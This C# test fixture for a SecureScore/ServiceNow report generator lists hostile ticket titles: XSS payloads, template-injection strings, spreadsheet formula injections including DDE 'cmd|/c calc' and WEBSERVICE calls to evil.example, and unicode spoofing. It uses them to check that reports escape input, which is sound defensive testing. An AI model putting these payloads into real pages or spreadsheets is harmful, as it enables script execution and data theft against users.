using SecureScoreSnow.Client.Reports;
using SecureScoreSnow.Client.SecureScore;
using SecureScoreSnow.Client.Tickets;

namespace SecureScoreSnow.Client.Tests.Reports;

/// <summary>
/// Names that somebody may give a ticket in order to run, load, send, hide or forge something where it is shown.
/// Whatever would run calls <c>pwned</c>; whatever would load or send asks <c>evil.example</c>.
/// </summary>
internal static class HostileTitles
{
    internal static readonly string[] All =
    [
        // Markup
        "<script>pwned()</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "</td></tr></table><script>pwned()</script>",
        "</title><script>pwned()</script>",
        "</script><script>pwned()</script>",
        "</style><style>*{display:none}</style>",
        "<style>@import url(//evil.example/x.css)</style>",
        "<img src=x onerror=pwned()>",
        "<img src=\"//evil.example/pixel.gif\">",
        "<svg onload=pwned()>",
        "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
        "<svg><script>pwned()</script></svg>",
        "<iframe src=javascript:pwned()></iframe>",
        "<iframe srcdoc=\"<script>parent.pwned()</script>\"></iframe>",
        "<object data=//evil.example></object><embed src=//evil.example>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
        "<base href=//evil.example/>",
        "<form action=//evil.example><button>Continue</button></form>",
        "<a href=javascript:pwned()>click</a>",
        "<details open ontoggle=pwned()>",
        "<input autofocus onfocus=pwned()>",
        "<body onload=pwned()>",
        "<template><script>pwned()</script></template>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>",
        "<!--><img src=x onerror=pwned()>-->",
        "<![CDATA[<script>pwned()</script>]]>",
        "<?xml-stylesheet href=\"//evil.example\"?>",

        // Out of an attribute, or out of an entity
        "\"><script>pwned()</script>",
        "' onmouseover='pwned()",
        "\" autofocus onfocus=\"pwned()",
        "` onmouseover=`pwned()",
        "&lt;script&gt;pwned()&lt;/script&gt;",
        "&#60;script&#62;pwned()&#60;/script&#62;",
        "javascript:pwned()",
        "data:text/html,<script>pwned()</script>",

        // Templates
        "{{constructor.constructor('pwned()')()}}",
        "${pwned()}",
        "#{pwned()}",
        "<%= pwned() %>",
        "$&$1$`$'",

        // Formulas
        "=1+1",
        "=HYPERLINK(\"http://evil.example\",\"Continue\")",
        "=cmd|'/c calc'!A0",
        "+1+cmd|'/c calc'!A0",
        "-1+1+cmd|'/c calc'!A0",
        "@SUM(1+1)*cmd|'/c calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "\"=1+1",
        "harmless;=1+1",
        "harmless; \"=WEBSERVICE(\"\"http://evil.example\"\")",
        "\uFF1D1+1",

        // What is not seen, or turns round what is
        "invoice\u202Egpj.exe",
        "\u2066left\u2069 \u2067right\u2069",
        "\u200Bzero\u200Bwidth\uFEFF",
        "bell\u0007 null\0 escape\u001B[31mred",
        "line\nbreak\r\nand\u2028separator",
        "\uD83D lone surrogate \uDE00",
        "\uFFFE\uFFFF not characters",
        "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
        "\u05E9\u05DC\u05D5\u05DD \u0645\u0631\u062D\u0628\u0627",

        // Too much of it
        new('x', 4000),
        string.Concat(Enumerable.Repeat("<b>", 1000)),
    ];

    /// <summary>Tickets that have them, not only as titles.</summary>
    internal static SnowTicket[] Tickets => [.. All.Select(SampleReport.TicketOf)];

    /// <summary>What a report of them is asked for.</summary>
    internal static ReportOptions Options => SampleReport.Options with
    {
        Title = string.Concat(All),
        TenantId = All[0],
        Score = SampleReport.Score() with
        {
            TenantId = All[1],
            Days = [.. All.Take(4).Select((text, place) => SampleReport.Day(place) with
            {
                Comparisons = [new ComparativeScore { Basis = text, AverageScore = 40 }],
            })],
            Actions = [.. All.Select((text, place) => new SecureScoreAction
            {
                ControlId = $"control{place}",
                Category = text,
                Status = SecureScoreStatus.ToAddress,
                Points = 0,
                MaxPoints = 5,
            })],
            Warnings = All,
        },
    };
}
